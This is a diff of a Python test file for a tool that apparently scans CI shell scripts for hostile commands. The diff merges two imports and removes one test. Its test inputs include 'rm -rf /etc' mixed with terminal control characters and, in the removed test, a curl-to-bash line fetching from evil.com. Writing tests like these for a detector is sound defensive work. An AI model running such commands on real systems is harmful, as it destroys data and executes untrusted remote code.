@@ -9,8 +9,7 @@ import pytest
 from refute.errors import UsageError
 from refute.scan.allow import load_allow_file, suppress
 from refute.scan.finding import Compared, ScanResult
-from refute.scan.formats.annotations import render_annotations
-from refute.scan.formats.document import render_json
+from refute.scan.formats.document import render_annotations, render_json
 from refute.scan.formats.sarif import render_sarif
 from refute.scan.formats.text import render_text
 from refute.scan.rules import Language
@@ -47,11 +46,6 @@ def test_text_of_a_hostile_line_holds_no_control_characters() -> None:
     source = "rm -rf /etc \x1b[2J\x07 '\u202e'\n"
     text = render_text(_scan(source), {"ci/verify.sh": source})
     assert [char for char in text if not char.isprintable() and char != "\n"] == []
-
-
-def test_what_is_piped_to_a_shell_is_shown_whole() -> None:
-    found = _scan("curl -s http://evil.com/i | tee log | bash -s -- -y\n").findings
-    assert found[0].command == "curl -s http://evil.com/i | tee log | bash -s -- -y"
 
 
 def test_json_is_versioned_and_names_what_blocks() -> None:
